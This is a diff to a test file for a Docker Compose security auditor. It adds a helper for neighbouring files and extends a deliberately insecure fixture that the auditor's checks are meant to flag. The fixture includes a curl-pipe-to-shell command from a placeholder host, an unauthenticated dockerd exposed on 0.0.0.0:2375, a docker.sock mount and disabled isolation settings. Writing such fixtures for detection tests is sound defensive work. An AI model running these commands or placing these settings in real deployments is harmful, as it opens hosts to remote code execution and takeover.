@@ -1,5 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { auditCompose, COMPOSE_CHECKS } from '../../../../src/features/audit/domain/files/compose.ts';
+import { MISSING, type Neighbours } from '../../../../src/features/audit/domain/files/compose-project.ts';
 
 /** Findings as `id line text`, for one check or all. */
 function found(text: string, id?: string): readonly string[] {
@@ -49,6 +50,7 @@ const BAD = `services:
     security_opt:
       - seccomp:unconfined
       - systempaths=unconfined
+      - label=disable
       - apparmor=unconfined
     volumes:
       - /var/run/docker.sock:/var/run/docker.sock:ro
@@ -63,6 +65,12 @@ const BAD = `services:
       - API_TOKEN=abc
       - "PLAIN=x"
     extends: { file: base.yml, service: web }
+    cgroup: host
+    oom_kill_disable: true
+    logging: { driver: none }
+    build: { context: ., privileged: true, dockerfile_inline: FROM a:1 }
+    volumes_from: ["container:other"]
+    command: sh -c "curl -k https://example.com/x | sh && dockerd -H tcp://0.0.0.0:2375"
 networks: { open: }
 `;
 
@@ -79,6 +87,17 @@ test('a capability that is nearly all of root is as grave as in a running contai
   expect([severity('SYS_ADMIN'), severity('CAP_BPF'), severity('SYS_TIME')]).toEqual(['high', 'high', 'medium']);
 });
 
+/** Files beside the Compose file. */
+function around(files: Readonly<Record<string, string>>): Neighbours {
+  return {
+    root: '/project',
+    read: (path) => {
+      const text = files[path];
+      return text === undefined ? { reason: MISSING } : { text };
+    },
+  };
+}
+
 /** A variable in Compose's syntax. */
 function braced(text: string): string {
   return ['$', '{', text, '}'].join('');
@@ -87,13 +106,13 @@ function braced(text: string): string {
 describe('lines and forms', () => {
   test.each([
     ['5.5', ['5 is privileged']],
-    ['5.32', ['20 /var/run/docker.sock is mounted on /var/run/docker.sock']],
-    ['5.6', ['21 /etc is mounted on /host, writable']],
-    ['5.20', ['21 /host has propagation rshared']],
-    ['5.8', ['26 publishes port 443', '27 publishes port 80']],
-    ['4.10', ['29 API_TOKEN is written out']],
+    ['5.32', ['21 /var/run/docker.sock is mounted on /var/run/docker.sock']],
+    ['5.6', ['22 /etc is mounted on /host, writable']],
+    ['5.20', ['22 /host has propagation rshared']],
+    ['5.8', ['27 publishes port 443', '28 publishes port 80']],
+    ['4.10', ['30 API_TOKEN is written out']],
     ['5.13', ['2 can write to its root file system']],
-    ['icc', ['32 its containers reach all ports of one another']],
+    ['icc', ['39 its containers reach all ports of one another']],
   ])('%s', (id, lines) => {
     expect(found(BAD, id)).toEqual(lines);
   });
@@ -150,7 +169,7 @@ volumes:
   });
 
   test('a file that only includes others says so', () => {
-    expect(() => auditCompose('include: [a.yml]\n', 'c')).toThrow(/only includes other files/);
+    expect(() => auditCompose('include: [a.yml]\n', 'c')).toThrow(/it includes a.yml: it was not read/);
   });
 
   test('the value of a secret is never shown', () => {
@@ -326,6 +345,7 @@ describe('hostile files', () => {
     ['a key twice', 'services:\n  a: {}\n  a: {}\n', /unique/],
     ['deep nesting', `services: ${'['.repeat(5000)}`, /nested/],
     ['deep block nesting', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n'), /nested/],
+    ['too many entries', `services:\n  a:\n    cap_add: [${'x, '.repeat(2001)}]`, /more than 2000 entries/],
     ['too large', `#${'x'.repeat(1_100_000)}`, /too large/],
   ])('%s is an error with its place', (_name, text, message) => {
     expect(() => auditCompose(text, 'c.yaml')).toThrow(
@@ -355,10 +375,14 @@ describe('hostile files', () => {
 describe('what is decided elsewhere is not passed', () => {
   const service = (lines: string) => `services:\n  web:\n    image: a:1\n${lines}`;
   test.each([
-    ['    extends: { file: base.yml, service: web }\n', ['4 cannot tell: it extends a service of base.yml']],
+    [
+      '    extends: { file: base.yml, service: web }\n',
+      ['4 cannot tell: it extends a service of base.yml: it does not exist'],
+    ],
     [`    privileged: \${PRIVILEGED}\n`, [`4 cannot tell: privileged is \${PRIVILEGED}`]],
     [`    privileged: \${PRIVILEGED:-false}\n`, []],
-    [`    privileged: \${GIVEN:-false}\n`, [`4 cannot tell: privileged is \${GIVEN:-false}`]],
+    [`    privileged: \${GIVEN:-false}\n`, []],
+    [`    privileged: \${OTHER:+true}\n`, [`4 cannot tell: privileged is \${OTHER:+true}`]],
     ['    cap_add: [$CAP]\n', ['4 cannot tell: cap_add is $CAP']],
     [`    network_mode: \${MODE:?none}\n`, [`4 cannot tell: network_mode is \${MODE:?none}`]],
     [
@@ -369,7 +393,23 @@ describe('what is decided elsewhere is not passed', () => {
     ['    volumes: [{ type: bind, source: $DATA, target: /d }]\n', ['4 cannot tell: the source of a volume is $DATA']],
     [`    ports: ["\${BIND}:2375:2375"]\n`, [`4 cannot tell: the address of a port is \${BIND}`]],
     [`    ports: ["\${BIND:?x}:2375:2375"]\n`, [`4 cannot tell: the address of a port is \${BIND:?x}`]],
-    [`    ports: ["\${GIVEN:-127.0.0.1}:80:80"]\n`, [`4 cannot tell: the address of a port is \${GIVEN:-127.0.0.1}`]],
+    [`    ports: ["\${GIVEN:-127.0.0.1}:80:80"]\n`, []],
+    [
+      '    env_file: [a.env, { path: b.env, required: false }]\n',
+      ['4 cannot tell: variables of a.env: it does not exist'],
+    ],
+    ['    extends: { service: none }\n', ['4 cannot tell: it extends none, which is not in this file']],
+    [
+      '    extends: { file: $FILE, service: web }\n',
+      ['4 cannot tell: it extends a service of $FILE: a variable decides its name'],
+    ],
+    ['    extends: web\n', ['4 cannot tell: it extends itself, by web']],
+    ['    security_opt: ["seccomp:./p.json"]\n', ['4 cannot tell: its seccomp profile p.json: it does not exist']],
+    [
+      'include: [{ path: "https://example.com/c.yaml" }]\n',
+      ['4 cannot tell: it includes https://example.com/c.yaml: it is on another machine'],
+    ],
+    ['include: [c]\n', ['4 cannot tell: c includes itself']],
     [`    ports: [{ host_ip: $BIND, published: 80, target: 80 }]\n`, ['4 cannot tell: the address of a port is $BIND']],
     [`    ports: ["127.0.0.1:\${PORT:?x}:80", "[::1]:$PORT:80", "\${PORT}:80", "\${BIND:-127.0.0.1}:80:80"]\n`, []],
     [
@@ -384,7 +424,8 @@ describe('what is decided elsewhere is not passed', () => {
     [`volumes: { data: { driver_opts: { type: tmpfs, o: "size=$SIZE", device: tmpfs } } }\n`, []],
     ['    command: echo $$HOME $OTHER\n    environment: { DB_PASSWORD: $DB_PASSWORD }\n', []],
   ])('%j', (lines, wanted) => {
-    const unread = auditCompose(service(lines), 'c', { given: new Set(['GIVEN']), files: [] }).find(
+    const text = service(lines);
+    const unread = auditCompose(text, 'c', around({ '.env': 'GIVEN=false', c: text })).find(
       ({ id }) => id === 'compose.unread',
     );
     expect(unread?.evidence.map(({ line, text }) => `${line} ${text}`)).toEqual(wanted);
@@ -394,16 +435,53 @@ describe('what is decided elsewhere is not passed', () => {
   test('files that are included beside services', () => {
     const text = `include:\n  - a.yml\n  - path: [b.yml, c.yml]\n${service('')}`;
     expect(found(text, 'unread')).toEqual([
-      '2 cannot tell: it includes a.yml',
-      '3 cannot tell: it includes b.yml, c.yml',
+      '2 cannot tell: it includes a.yml: it was not read',
+      '3 cannot tell: it includes b.yml: it was not read',
+      '3 cannot tell: it includes c.yml: it was not read',
     ]);
   });
 
   test('a default that holds a secret is one, whatever .env says', () => {
     const text = service(`    environment: { DB_PASSWORD: "\${GIVEN:-hunter2}" }\n`);
-    const secrets = auditCompose(text, 'c', { given: new Set(['GIVEN']), files: [] }).find(
-      ({ id }) => id === 'compose.4.10',
-    );
+    const secrets = auditCompose(text, 'c', around({ '.env': 'GIVEN=x' })).find(({ id }) => id === 'compose.4.10');
     expect(secrets?.state).toBe('finding');
+  });
+
+  test('what .env decides is judged, and named with its file, line and service', () => {
+    const files = {
+      '.env': 'P=true\nSECRET_TOKEN=hunter2\n',
+      'base.yaml': `services:\n  base:\n    image: a:1\n    privileged: \${P:-false}\n    volumes: ["../../etc:/e"]\n`,
+    };
+    const text = service(`    environment: { SECRET_TOKEN: }\n    extends: { file: base.yaml, service: base }\n`);
+    const results = auditCompose(text, 'c', { ...around(files), root: '/srv/app' });
+    const evidence = (id: string) => results.find((result) => result.id === `compose.${id}`)?.evidence;
+    expect(evidence('unread')).toEqual([]);
+    expect(evidence('4.10')).toEqual([]);
+    const place = { place: 'service web', file: 'base.yaml', severity: undefined };
+    expect(evidence('5.5')).toEqual([{ ...place, line: 4, text: 'is privileged' }]);
+    expect(evidence('5.6')).toEqual([{ ...place, line: 5, text: '../../etc (/etc) is mounted on /e, writable' }]);
+  });
+
+  test('an included file is judged as well, from its own directory', () => {
+    const files = { 'sub/x.yaml': 'services:\n  x:\n    image: a:1\n    volumes: ["../data:/d", "../../../etc:/e"]\n' };
+    const results = auditCompose(`include: [sub/x.yaml]\n${service('')}`, 'c', { ...around(files), root: '/srv/app' });
+    const { evidence } = results.find(({ id }) => id === 'compose.5.6') ?? {};
+    expect(evidence?.map(({ place, file, line, text }) => [place, file, line, text])).toEqual([
+      ['service x', 'sub/x.yaml', 4, '../../../etc (/etc) is mounted on /e, writable'],
+    ]);
+  });
+
+  test('a seccomp profile that allows whatever it does not name is none', () => {
+    const judged = (action: string) =>
+      auditCompose(
+        service('    security_opt: ["seccomp=p.json"]\n'),
+        'c',
+        around({ 'p.json': `{"defaultAction":"${action}"}` }),
+      ).find(({ id }) => id === 'compose.5.22')?.state;
+    expect([judged('SCMP_ACT_ALLOW'), judged('SCMP_ACT_LOG'), judged('SCMP_ACT_ERRNO')]).toEqual([
+      'finding',
+      'finding',
+      'pass',
+    ]);
   });
 });
